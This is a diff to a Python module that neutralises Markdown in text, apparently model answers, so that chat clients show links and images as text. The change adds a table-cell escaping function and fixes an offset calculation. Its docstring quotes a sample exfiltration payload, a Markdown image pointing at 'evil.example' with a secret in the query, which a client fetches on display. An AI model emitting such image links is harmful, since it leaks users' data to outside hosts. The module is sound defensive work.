@@ -3,7 +3,8 @@ r"""Text for who renders Markdown: what documents and models say fetches nothing
 A chat client takes an answer for Markdown, and fetches `![](http://evil.example/?q=secret)` as soon
 as it is shown. So the signs are written that have CommonMark and GitHub's dialect show links,
 pictures and HTML as text: `]\(`, `&lt;img`. A bare address, which many make a link of whatever
-signs stand in it, is written as `hxxp://`. What a client runs as a program is none of this.
+signs stand in it, is written as `hxxp://`. What a client runs as a program is none of this, nor is
+an e-mail address, with `mailto:` or without: it fetches nothing, and a letter is sent by a person.
 """
 
 from __future__ import annotations
@@ -12,6 +13,8 @@ import re
 import string
 from dataclasses import dataclass
 from itertools import pairwise
+
+from localrag.printable import as_name
 
 _LETTERS = string.ascii_letters + string.digits + string.punctuation
 _LIVE = re.compile(
@@ -26,6 +29,8 @@ _LIVE = re.compile(
     """,
     re.VERBOSE | re.IGNORECASE | re.ASCII,
 )
+_ADDRESSES = ("scheme", "ftp", "www", "slash")
+_SIGN = re.compile(r"[\\`*_\[\]<>!#|~&]")
 
 
 @dataclass(frozen=True, slots=True)
@@ -55,8 +60,23 @@ def inert(text: str) -> Inert:
     return Inert(changed(text, changes), words(text, changes))
 
 
+def plain_line(text: str) -> str:
+    r"""A text as a line of Markdown in which no sign means anything, as in a cell of a table.
+
+    >>> plain_line("*a* | ![b](http://a.example)")
+    '\\*a\\* \\| \\!\\[b\\](hxxp://a.example)'
+    """
+    line = as_name(" ".join(text.split()))
+    addresses = [
+        Change(*live.span(), _replacement(live))
+        for live in _LIVE.finditer(line)
+        if live.lastgroup in _ADDRESSES
+    ]
+    return _SIGN.sub(r"\\\g<0>", changed(line, addresses))
+
+
 class InertStream:
-    """The same for a text that comes in pieces, wherever they are cut.
+    """What `inert` does, for a text that comes in pieces, wherever they are cut.
 
     What is given at once joins to `inert` of the whole. Words of ASCII are held until they end.
     """
@@ -115,6 +135,8 @@ def changed(text: str, changes: list[Change]) -> str:
 
 
 def moved(offset: int, changes: list[Change]) -> int:
-    """Where a code point stands once these changes are made."""
-    before = (change for change in changes if change.end <= offset)
-    return offset + sum(len(change.text) - (change.end - change.start) for change in before)
+    """Where a code point stands once these changes are made; one that is replaced, behind that."""
+    begun = (change for change in changes if change.start < offset)
+    return offset + sum(
+        len(change.text) - (min(change.end, offset) - change.start) for change in begun
+    )
